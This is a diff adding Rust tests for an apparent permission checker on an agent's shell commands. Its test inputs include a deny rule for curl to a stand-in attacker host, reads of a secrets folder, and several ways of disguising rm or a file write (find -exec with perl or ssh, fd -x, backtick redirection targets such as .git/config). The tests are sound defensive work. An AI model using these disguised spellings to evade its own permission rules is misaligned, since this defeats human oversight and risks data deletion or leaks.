@@ -15,6 +15,12 @@ async fn no_spelling_evades_what_is_forbidden() {
         ("deny exec_command(curl http://evil.com*)", r#"curl "http://evil.com/?x""#, Deny),
         ("deny exec_command(cat secrets/*)", "cat 'secrets/a b'", Deny),
         ("deny exec_command(cat secrets/*)", "/bin/cat 'secrets/a b'", Deny),
+        // What `find` runs goes on behind a plus that stands alone.
+        ("deny exec_command(rm *)", "find . -exec perl -I + -e 'system q(rm x)' ';'", Deny),
+        ("deny exec_command(rm *)", "find . -exec ssh -i + h rm x ';'", Deny),
+        ("deny exec_command(rm *)", "find . -name -exec -exec rm x ';'", Deny),
+        ("deny exec_command(rm *)", "fd -x perl {} + -e 'system q(rm x)'", Deny),
+        ("deny exec_command(rm *)", "find . -exec cat {} + -name rm", Allow),
         ("deny exec_command(rm *)", "$(echo rm) -rf x", Ask),
         ("deny exec_command(rm *)", "r$(echo m) x", Ask),
         ("deny exec_command(rm *)", "/bin/r? x", Ask),
@@ -27,6 +33,25 @@ async fn no_spelling_evades_what_is_forbidden() {
     for cmd in [r#"git pus"$(echo h)" origin"#, "git pus[h] origin"] {
         assert_eq!(decide(Mode::Auto, &push, cmd).await, Ask, "{cmd}");
     }
+}
+
+// PA7: where a redirection leads that only bash knows, somebody is asked.
+#[tokio::test]
+async fn a_target_in_backticks_asks() {
+    let rules = ["allow exec_command", "allow edit", "deny edit(sub/p)"];
+    for cmd in [
+        "echo x > `echo sub/p`",
+        "echo x >> `echo .git/config`",
+        "echo x >| `echo sub/p`",
+        "echo x &> `echo sub/p`",
+        "{ echo x; } 2> `echo sub/p`",
+        "cat > `echo sub/p` <<E\nx\nE",
+    ] {
+        assert_eq!(decide(Mode::Auto, &rules, cmd).await, Ask, "{cmd}");
+    }
+    let rules = ["allow exec_command", "deny edit(1)"];
+    assert_eq!(decide(Mode::Auto, &rules, "{ echo x; } > 1").await, Deny);
+    assert_eq!(decide(Mode::Auto, &rules, "{ echo x; } 2>&1").await, Allow);
 }
 
 // SH10: where something is forbidden, what may be it under another spelling asks, and without
